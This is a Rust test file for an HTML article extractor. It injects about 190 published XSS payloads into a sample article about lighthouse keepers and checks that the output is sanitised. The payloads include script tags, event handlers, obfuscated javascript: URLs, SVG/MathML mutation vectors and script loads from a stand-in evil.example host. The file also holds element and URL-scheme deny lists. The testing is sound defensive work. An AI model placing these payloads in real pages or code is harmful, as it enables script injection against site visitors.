//! XSS vectors injected into real article prose: whatever the page carries, the
//! extracted `html` must hold only inert markup (no script-capable elements, no event
//! handlers, only `href`/`src`/`srcset`/`alt` attributes, only http(s)/mailto URLs),
//! the markdown must carry no script URLs, and the prose around the vector must survive.
//!
//! Every vector is tried twice: in the middle of the second paragraph, and as a block
//! of its own between the second and third paragraphs. All failures are collected and
//! reported together.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

/// One vector per line. Most close what they open; a few published payloads (the
/// mglyph/style and form/math mutation vectors, the unterminated `<a href=..`) leave an
/// element open, and a browser still shows the paragraphs after them.
const VECTORS: &[&str] = &[
    // Script in its disguises.
    r#"<script>alert(1)</script>"#,
    r#"<SCRIPT>alert(1)</SCRIPT>"#,
    r#"<ScRiPt>alert(1)</sCrIpT>"#,
    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
    r#"<script src="https://evil.example/x.js"></script>"#,
    r#"<script/xss src="//evil.example/x.js"></script>"#,
    r#"<script >alert(1)</script >"#,
    "<script\n>alert(1)</script\n>",
    r#"<<script>alert(1);//<</script>"#,
    r#"<script>alert(1)</script"#,
    r#"<script type="text/javascript">document.write(1)</script>"#,
    r#"<script>/*</script><script>*/alert(1)</script>"#,
    r#"<div><script>alert(1)</script></div>"#,
    r#"<script type="module">import('//evil.example/m.js')</script>"#,
    r#"<noscript><script>alert(1)</script></noscript>"#,
    r#"<script>var a = '</scr' + 'ipt>';</script>"#,
    r#"<!--<script>-->alert(1)<!--</script>-->"#,
    r#"<script><!--alert(1)//--></script>"#,
    r#"<script src=data:text/javascript,alert(1)></script>"#,
    r#"<span><script>alert(1)</script>inline</span>"#,
    // Event handlers on many tags.
    r#"<img src=x onerror=alert(1)>"#,
    r#"<img src="x" onerror="alert(1)">"#,
    r#"<IMG SRC=x ONERROR=alert(1)>"#,
    r#"<img src=x:alert(alt) onerror=eval(src) alt=0>"#,
    r#"<img/src=x/onerror=alert(1)>"#,
    r#"<img src=x oNeRrOr=alert(1)>"#,
    "<img src=x\nonerror=alert(1)>",
    "<img src=x onerror\t=\talert(1)>",
    r#"<img src="x" onerror="alert(1)" />"#,
    r#"<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">"#,
    r#"<img src=x onerror=alert(1)//"#,
    r#"<body onload=alert(1)>"#,
    r#"<svg onload=alert(1)>"#,
    r#"<svg/onload=alert(1)>"#,
    r#"<input onfocus=alert(1) autofocus>"#,
    r#"<input type="text" value="x" onfocus="alert(1)" autofocus>"#,
    r#"<select onfocus=alert(1) autofocus><option>x</option></select>"#,
    r#"<textarea onfocus=alert(1) autofocus>x</textarea>"#,
    r#"<details open ontoggle=alert(1)><summary>More</summary>Details text</details>"#,
    r#"<div onmouseover="alert(1)">hover me</div>"#,
    r#"<a onmouseover=alert(1) href="https://example.org/">link</a>"#,
    r#"<span style="animation-name:spin" onanimationstart=alert(1)>spin</span>"#,
    r#"<video src=x onerror=alert(1)></video>"#,
    r#"<video><source onerror=alert(1)></video>"#,
    r#"<audio src=x onerror=alert(1)></audio>"#,
    r#"<iframe onload=alert(1)></iframe>"#,
    r#"<marquee onstart=alert(1)>scroll</marquee>"#,
    r#"<object onerror=alert(1)></object>"#,
    r#"<table><tr><td onclick=alert(1)>cell</td></tr></table>"#,
    r#"<p onclick=alert(1)>clicky paragraph</p>"#,
    r#"<button onclick=alert(1)>press</button>"#,
    r#"<div onpointerenter=alert(1)>pointer</div>"#,
    r#"<x onclick=alert(1)>custom</x>"#,
    r#"<style onload=alert(1)></style>"#,
    r#"<link rel=stylesheet href=javascript:alert(1) onload=alert(1)>"#,
    r#"<keygen autofocus onfocus=alert(1)>"#,
    r#"<frameset onload=alert(1)>"#,
    r#"<div onwheel=alert(1) style="height:100px">wheel</div>"#,
    r#"<div><img src=x onerror=alert(1)></div>"#,
    r#"<a href="https://example.org/"><img src=x onerror=alert(1)></a>"#,
    r#"<a href="http://example.org/" onclick="alert(1)">ok link</a>"#,
    r##"<a href="#" onclick="alert(1)">hash</a>"##,
    r#"<img src=x onerror=alert(1) srcset="javascript:alert(1)">"#,
    // Script URLs, with entity and whitespace obfuscation.
    r#"<a href="javascript:alert(1)">click</a>"#,
    r#"<a href="JaVaScRiPt:alert(1)">click</a>"#,
    r#"<a href="  JAVASCRIPT:alert(1)">click</a>"#,
    r#"<a href="jav&#x09;ascript:alert(1)">click</a>"#,
    r#"<a href="jav&#x0A;ascript:alert(1)">click</a>"#,
    r#"<a href="jav&#x0D;ascript:alert(1)">click</a>"#,
    r#"<a href="&#106;avascript:alert(1)">click</a>"#,
    r#"<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>"#,
    r#"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">click</a>"#,
    "<a href=\"java\nscript:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"java\rscript:alert(1)\">click</a>",
    r#"<a href="  javascript:alert(1)">click</a>"#,
    "<a href=\"\u{1}javascript:alert(1)\">click</a>",
    "<a href=\"\u{1f}\u{8} javascript:alert(1)\">click</a>",
    r#"<a href="&#x20;javascript:alert(1)">click</a>"#,
    r#"<a href="&#14;javascript:alert(1)">click</a>"#,
    r#"<a href="javascript&colon;alert(1)">click</a>"#,
    r#"<a href="javascript&#58;alert(1)">click</a>"#,
    r#"<a href="javascript&#0000058alert(1)">click</a>"#,
    r#"<a href="javas&#99;ript:alert(1)">click</a>"#,
    r#"<a href="j&#x61;vascript&#x3a;alert(1)">click</a>"#,
    r#"<a href="&#x6a;ava&#x0009;script:alert(1)">click</a>"#,
    r#"<a href="java&Tab;script:alert(1)">click</a>"#,
    r#"<a href="java&NewLine;script:alert(1)">click</a>"#,
    r#"<a href=javascript:alert(1)>unquoted</a>"#,
    r#"<a href="javascript://%0aalert(1)">comment trick</a>"#,
    r#"<a href="javascript:alert(1)" target="_blank" rel="noopener">blank</a>"#,
    r#"<a href="javascript:alert(1)" ping="https://evil.example/">ping</a>"#,
    r#"<a href="vbscript:msgbox(1)">click</a>"#,
    r#"<a href="VBScript:MsgBox(1)">click</a>"#,
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>"#,
    r#"<a href="data:text/html,<script>alert(1)</script>">click</a>"#,
    r#"<a href="DATA:TEXT/HTML,<svg onload=alert(1)>">click</a>"#,
    r#"<img src="javascript:alert(1)">"#,
    r#"<img src=" javascript:alert(1)">"#,
    r#"<img src="jav&#x09;ascript:alert(1)" alt="tab">"#,
    r#"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">"#,
    r#"<img srcset="https://example.com/ok.png 1x, javascript:alert(1) 2x">"#,
    r#"<img src="https://example.com/ok.png" srcset="data:text/html,x 1x">"#,
    r#"<img src="https://example.com/ok.png" srcset="ok.png 1x, &#106;avascript:alert(1) 2x" alt="ok">"#,
    r#"<picture><source srcset="javascript:alert(1)"><img src="https://example.com/p.png" alt="pic"></picture>"#,
    r#"<form action="javascript:alert(1)"><input type=submit></form>"#,
    r#"<form><button formaction="javascript:alert(1)">go</button></form>"#,
    r#"<button formaction="javascript:alert(1)">go</button>"#,
    r#"<input type=image src=x formaction=javascript:alert(1)>"#,
    r#"<isindex action=javascript:alert(1) type=image>"#,
    r#"<iframe src="javascript:alert(1)"></iframe>"#,
    r#"<iframe src="data:text/html,<script>alert(1)</script>"></iframe>"#,
    r#"<iframe src="https://evil.example/"></iframe>"#,
    r#"<frame src="javascript:alert(1)">"#,
    r#"<object data="javascript:alert(1)"></object>"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>"#,
    r#"<object type="text/x-scriptlet" data="https://evil.example/xss.sct"></object>"#,
    r#"<object><param name="src" value="javascript:alert(1)"></object>"#,
    r#"<embed src="javascript:alert(1)">"#,
    r#"<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">"#,
    r#"<embed type="image/svg+xml" src="https://evil.example/xss.svg">"#,
    r#"<applet code="javascript:alert(1)"></applet>"#,
    r#"<video poster="javascript:alert(1)"></video>"#,
    r#"<body background="javascript:alert(1)">"#,
    r#"<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>"#,
    r#"<div background="javascript:alert(1)">bg</div>"#,
    r#"<map name=m><area shape=rect coords=0,0,10,10 href=javascript:alert(1)></map>"#,
    r#"<link rel=import href="data:text/html,<script>alert(1)</script>">"#,
    r#"<blockquote cite="javascript:alert(1)">quoted words</blockquote>"#,
    r#"<q cite="javascript:alert(1)">q</q>"#,
    // SVG and MathML.
    r#"<svg><script>alert(1)</script></svg>"#,
    r#"<svg><script href="data:text/javascript,alert(1)"></script></svg>"#,
    r#"<svg><script xlink:href="data:,alert(1)"/></svg>"#,
    r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>"#,
    r#"<svg><a href="javascript:alert(1)"><text>XSS</text></a></svg>"#,
    r#"<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"#,
    r#"<svg><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
    r#"<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"#,
    r#"<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"#,
    r#"<svg><style>@import 'javascript:alert(1)';</style></svg>"#,
    r#"<svg><image href="javascript:alert(1)"/></svg>"#,
    r#"<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>"#,
    r#"<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"#,
    r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
    r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">"#,
    r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#,
    r#"<math href="javascript:alert(1)">CLICK</math>"#,
    r#"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>"#,
    r#"<math><mi xlink:href="data:x,<script>alert(1)</script>">X</mi></math>"#,
    r#"<math><a xlink:href="javascript:alert(1)">math link</a></math>"#,
    r#"<a xlink:href="javascript:alert(1)">html xlink</a>"#,
    // Base, meta refresh, CSS.
    r#"<base href="javascript:alert(1)//">"#,
    r#"<base href="https://evil.example/">"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    r#"<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"#,
    r#"<div style="background:url(javascript:alert(1))">styled</div>"#,
    r#"<div style="width: expression(alert(1));">expr</div>"#,
    r#"<div style="xss:expr/**/ession(alert(1))">comment split</div>"#,
    r#"<span style="background-image:url(&#106;avascript:alert(1))">entity css</span>"#,
    r#"<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>"#,
    r#"<style>body{background:url("javascript:alert(1)")}</style>"#,
    r#"<style>@import "javascript:alert(1)";</style>"#,
    r#"<style>p{behavior:url(xss.htc);-moz-binding:url(https://evil.example/xss.xml#x)}</style>"#,
    r#"<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>item</li></ul>"#,
    // Template, noscript, srcdoc.
    r#"<template><img src=x onerror=alert(1)></template>"#,
    r#"<template><script>alert(1)</script></template>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
    r#"<noscript><img src=x onerror=alert(1)></noscript>"#,
    r#"<noscript><style></noscript><img src=x onerror=alert(1)></style>"#,
    r#"<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>"#,
    r#"<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>"#,
    // Broken markup, unclosed quotes, text that looks like markup.
    r#"<img """><script>alert(1)</script>">"#,
    r#"<img src='x onerror=alert(1) alt='>"#,
    r#"<a title="unclosed href=javascript:alert(1)>text</a>">link</a>"#,
    r#"<a href="javascript:alert(1)""#,
    r#"<<img src=x onerror=alert(1)//<"#,
    r#"<div><!--</div><img src=x onerror=alert(1)>-->"#,
    r#"<![CDATA[<img src=x onerror=alert(1)>]]>"#,
    r#"<xmp><img src=x onerror=alert(1)></xmp>"#,
    r#"<textarea><script>alert(1)</script></textarea>"#,
    r#"&lt;script&gt;alert(1)&lt;/script&gt;"#,
    r#"&lt;img src=x onerror=alert(1)&gt;"#,
    r#"<img src="https://example.com/ok.png" alt="ok" width=1 height=1 id=x class=y title=t>"#,
    r#"<a href="//evil.example/">protocol-relative</a>"#,
];

const TITLE: &str = "The Lighthouse Keepers of the Northern Coast";

const P1: &str = "For more than two centuries the lighthouses of the northern coast were kept by families who lived beside the lamps and rarely left them. \
The keepers trimmed wicks, polished lenses and logged every passing ship in ledgers that now fill an entire room of the county archive. \
Historians who have read those ledgers say they describe a way of life that vanished almost without notice when the lights were automated.";
const P1_FIRST: &str = "For more than two centuries the lighthouses of the northern coast were kept by families who lived beside the lamps and rarely left them.";

const P2_HEAD: &str = "The work was relentless in winter, when storms could last for a week and the supply boats could not land. \
One keeper wrote that he had not slept more than three hours at a stretch for most of January, because the clockwork that turned the lens needed winding";
const P2_TAIL: &str = "every few hours through the night. \
His wife kept the station accounts, taught their four children to read, and once rowed alone to the mainland to fetch a doctor when the youngest fell ill.";

const P3: &str = "Automation arrived slowly and then all at once. \
In the space of a single decade the electric lamps, the fog signals and the radio beacons were wired to remote controls, and the last resident keepers were sent ashore. \
Some of them found work in harbour offices, while others took the pensions they were offered and settled in the villages they had watched from a distance for years.";

const P4: &str = "Today most of the towers are empty, although a few have been turned into small museums run by volunteers. \
Visitors climb the spiral stairs, look out over the grey water and read the ledgers in glass cases beside the great lenses. \
The volunteers say the question they hear most often is whether the keepers were lonely, and they always answer that the keepers were far too busy to notice.";
const P4_LAST: &str = "The volunteers say the question they hear most often is whether the keepers were lonely, and they always answer that the keepers were far too busy to notice.";

#[derive(Clone, Copy, Debug)]
enum Placement {
    /// In the middle of the second paragraph.
    Inline,
    /// A block of its own between the second and third paragraphs.
    Block,
}

fn page(vector: &str, placement: Placement) -> String {
    let second = match placement {
        Placement::Inline => format!("<p>{P2_HEAD} {vector} {P2_TAIL}</p>"),
        Placement::Block => format!("<p>{P2_HEAD} {P2_TAIL}</p>\n{vector}\n"),
    };
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>{TITLE} | Coastal Weekly</title></head>\n<body>\n\
<header><div class=\"logo\"><a href=\"/\">Coastal Weekly</a></div>\n\
<nav class=\"main-nav\"><ul><li><a href=\"/\">Home</a></li><li><a href=\"/news/\">News</a></li><li><a href=\"/history/\">History</a></li><li><a href=\"/about/\">About us</a></li><li><a href=\"/subscribe/\">Subscribe</a></li></ul></nav></header>\n\
<main><article>\n<h1>{TITLE}</h1>\n<p>{P1}</p>\n{second}\n<p>{P3}</p>\n<p>{P4}</p>\n</article></main>\n\
<footer><p>Copyright Coastal Weekly. All rights reserved.</p><a href=\"/privacy/\">Privacy</a> <a href=\"/terms/\">Terms</a></footer>\n\
</body></html>\n"
    )
}

fn squash(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

const FORBIDDEN_ELEMENTS: &[&str] =
    &["script", "style", "iframe", "object", "embed", "svg", "math", "base", "meta", "form", "template"];
const FORBIDDEN_ATTRIBUTES: &[&str] = &["style", "srcdoc", "formaction", "action", "xlink:href"];
const ALLOWED_ATTRIBUTES: &[&str] = &["href", "src", "srcset", "alt"];
const ALLOWED_SCHEMES: &[&str] = &["http://", "https://", "mailto:"];

fn url_ok(url: &str) -> bool {
    let url = url.trim();
    ALLOWED_SCHEMES.iter().any(|scheme| url.starts_with(scheme))
}

/// `<script` that is not backslash-escaped (`\<script` is Markdown for literal text).
fn has_raw_script(markdown: &str) -> bool {
    let lower = markdown.to_ascii_lowercase();
    lower.match_indices("<script").any(|(at, _)| !lower.get(..at).is_some_and(|head| head.ends_with('\\')))
}

/// Every problem with one vector in one placement.
/// Vectors after which the rest of the article is lost: each leaves an element open
/// (a `<form>`, a `<table>` in foreign content, a tag without its `>`), so the
/// paragraphs after it land inside it and read as a form or link text. Safety is still
/// checked in full for them; only the prose after the vector is not required.
const PROSE_AFTER_LOST: &[(&str, &str)] = &[
    (r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">"#, "table left open inside MathML"),
    (r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#, "second form left open"),
    (r#"<a href="javascript:alert(1)""#, "tag without its closing >"),
];

fn problems(vector: &str, placement: Placement) -> Vec<String> {
    let html = page(vector, placement);
    let article = match dechrome::Extractor::new().url("https://example.com/a/").extract(&html) {
        Ok(article) => article,
        Err(e) => return vec![format!("extraction failed: {e:?}")],
    };
    let mut out = Vec::new();

    // (a) The prose survives (before the vector only, for the known gaps).
    let text = squash(&article.text);
    let sentences: &[&str] = if PROSE_AFTER_LOST.iter().any(|(v, _)| *v == vector) { &[P1_FIRST] } else { &[P1_FIRST, P4_LAST] };
    for &sentence in sentences {
        if !text.contains(sentence) {
            out.push(format!("text lost the sentence {:?}", sentence.get(..50).unwrap_or(sentence)));
        }
    }

    // (b) The html holds only inert markup.
    for (tag, attrs) in common::elements(&article.html) {
        if FORBIDDEN_ELEMENTS.contains(&tag.as_str()) {
            out.push(format!("html has a <{tag}> element"));
        }
        for (name, value) in &attrs {
            let lower = name.to_ascii_lowercase();
            if lower.starts_with("on") {
                out.push(format!("html has an event handler <{tag} {name}={value:?}>"));
            }
            if FORBIDDEN_ATTRIBUTES.contains(&lower.as_str()) {
                out.push(format!("html has a forbidden attribute <{tag} {name}={value:?}>"));
            } else if !ALLOWED_ATTRIBUTES.contains(&lower.as_str()) && !lower.starts_with("on") {
                out.push(format!("html has an attribute outside href/src/srcset/alt: <{tag} {name}={value:?}>"));
            }
            match lower.as_str() {
                "href" | "src" if !url_ok(value) => {
                    out.push(format!("html has a non-http(s)/mailto URL <{tag} {name}={value:?}>"));
                }
                "srcset" => {
                    for candidate in value.split(',') {
                        let url = candidate.split_whitespace().next().unwrap_or("");
                        if !url_ok(url) {
                            out.push(format!("html has a non-http(s)/mailto srcset candidate <{tag} srcset={value:?}>"));
                        }
                    }
                }
                _ => {}
            }
        }
    }

    // (c) The markdown carries no script URL and no raw script tag.
    let markdown = article.markdown.to_ascii_lowercase();
    for needle in ["javascript:", "vbscript:", "data:text"] {
        if markdown.contains(needle) {
            let at = markdown.find(needle).unwrap_or(0);
            out.push(format!(
                "markdown contains {needle:?}: {}",
                common::context(&article.markdown, at, needle.len(), 40)
            ));
        }
    }
    if has_raw_script(&article.markdown) {
        let at = markdown.find("<script").unwrap_or(0);
        out.push(format!("markdown contains raw <script: {}", common::context(&article.markdown, at, 7, 40)));
    }
    out
}

#[test]
fn there_are_at_least_a_hundred_vectors() {
    assert!(VECTORS.len() >= 100, "only {} vectors", VECTORS.len());
}

#[test]
fn known_gaps_are_vectors_of_the_list() {
    for (vector, why) in PROSE_AFTER_LOST {
        assert!(VECTORS.contains(vector), "PROSE_AFTER_LOST names a vector that is not in VECTORS ({why}): {vector}");
    }
}

#[test]
fn xss_vectors_are_neutralised_in_article_prose() {
    let mut failures = Vec::new();
    for (i, vector) in VECTORS.iter().enumerate() {
        for placement in [Placement::Inline, Placement::Block] {
            let found = problems(vector, placement);
            if !found.is_empty() {
                failures.push(format!("#{i} {placement:?} {vector:?}\n    {}", found.join("\n    ")));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} vector placements failed:\n{}",
        failures.len(),
        VECTORS.len() * 2,
        failures.join("\n")
    );
}

